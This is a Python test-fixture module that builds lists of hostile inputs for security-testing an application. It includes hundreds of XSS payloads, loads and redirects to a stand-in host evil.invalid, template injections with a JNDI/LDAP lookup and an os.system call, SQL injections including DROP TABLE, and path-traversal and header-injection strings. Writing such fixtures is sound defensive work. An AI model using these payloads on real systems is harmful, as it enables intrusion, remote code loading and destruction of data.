"""Hostile strings of our own making, from families: every way in is crossed with a few things that would run.

Scripts call ``alert(1)`` so that a browser would show a dialog, which journeys watch for. Nothing here leaves this
machine: the only host named is one that cannot exist.
"""

from __future__ import annotations

import itertools

_CALLS = ("alert(1)", "alert`1`", "window['al'+'ert'](1)", "top.alert(1)", "eval('alert(1)')")
_TAGS = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script\t>{}</script\n>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</script><script>{}</script>",
    "</style><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<svg><script>{}</script></svg>",
    "<svg onload={}>",
    "<svg/onload={}//",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<img src=x onerror={}>",
    "<img src=x onerror\n=\n{}>",
    "<img/src/onerror={}>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<math><mtext><table><mglyph><style><img src=x onerror={}></style></mglyph></table></mtext></math>",
    "<noscript><p title='</noscript><img src=x onerror={}>'></noscript>",
)
_BREAK_OUTS = (
    '" onmouseover={} x="',
    "' onfocus={} autofocus x='",
    '"><script>{}</script>',
    "'><img src=x onerror={}>",
    "` onerror={} `",
    "x onpointerenter={}",
    '\\"><svg onload={}>',
    "&quot;><svg onload={}>",
    "&#34;&#62;<svg onload={}>",
    "%22%3E%3Csvg onload={}%3E",
)
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java&#10;script:{}",
    " javascript:{}",
    "[help](JaVaScRiPt:{})",
    "[help](data:text/html,<script>{}</script>)",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:{}",
)
_LOADS = (
    "<link rel=stylesheet href=//evil.invalid/x.css>",
    "<style>@import '//evil.invalid/x.css'</style>",
    "<style>*{background:url(//evil.invalid/x)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "<base href=//evil.invalid/>",
    "<form action=//evil.invalid><button>Go</button></form>",
    "<img src=//evil.invalid/pixel>",
    "<img src=file:///etc/passwd>",
    "<a href=//evil.invalid target=_blank>more</a>",
)

SCRIPTS: tuple[str, ...] = (
    tuple(
        dict.fromkeys(
            [shape.format(call) for shape, call in itertools.product((*_TAGS, *_BREAK_OUTS, *_ADDRESSES), _CALLS)]
        )
    )
    + _LOADS
)
"""More than 200 ways to run or load something from inside a text."""

PLACEHOLDERS: tuple[str, ...] = (
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% import os %}",
    "{% for x in [] %}{% endfor %}",
    "{# silent #}",
    "{a.__class__}",
    "{a!r}",
    "{0:>1000000}",
    "{0.__init__.__globals__}",
    "${7*7}",
    "${jndi:ldap://evil.invalid/x}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[nobody_knows_this]",
    "%(secret)s",
    "__import__('os').system('true')",
)
"""Templates and format strings that would come alive if a definition's text were ever evaluated."""

SQL: tuple[str, ...] = (
    "'",
    "''",
    '"',
    "' OR '1'='1",
    "' OR 1=1 --",
    "'; DROP TABLE response; --",
    "1; DELETE FROM answer",
    "' UNION SELECT body FROM definition --",
    "\\'; SELECT pg_sleep(5); --",
    "') OR ('a'='a",
    "/**/OR/**/1=1",
    "admin'/*",
    "0x27204f52",
    ":response_id",
    "%s",
    "?",
    "$1",
    "%",
    "_",
    "%%%",
    "[a-z]*",
    "9223372036854775808",
    "-9223372036854775809",
    "1e309",
    "NaN",
    "null",
)
"""Strings that would change a statement if one were ever built from text."""

ODD: tuple[str, ...] = (
    "",
    " ",
    "\t\r\n",
    "\u202eright to left\u202c",
    "\u2066isolated\u2069",
    "👩🏽‍⚕️🏴󠁧󠁢󠁳󠁣󠁴󠁿",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d" * 50,
    "\u1e9b\u0323",
    "\ufb01 \uff11\uff12\uff13 \u2167",
    "日本語テキスト",
    "العربية والعبرية",
    "\ufeffmark",
    "\u200bnothing\u200b",
    "\ufffd",
    "W" * 400,
    "a b " * 200,
    "../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "CON",
    "=1+1",
    "@SUM(A1)",
    "-5",
    "+44",
    "\t=1+1",
    "line one\r\nSet-Cookie: stolen=1",
    "\x1b[31mred",
    "true",
    "false",
    "undefined",
    "None",
    "0",
    "-0",
    "1/0",
    "''''",
    "&amp;&lt;",
    "<!-- -->",
    "<b>bold</b>",
)
"""Strings that surprise programs without being hostile."""

UNSTORABLE: tuple[str, ...] = ("nul\x00inside", "bell\x07", "\x7f", "\ud800 alone", "\udfff")
"""What no text may hold, because the two databases would not keep it alike."""

EVERY: tuple[str, ...] = (*SCRIPTS, *PLACEHOLDERS, *SQL, *ODD, *UNSTORABLE)
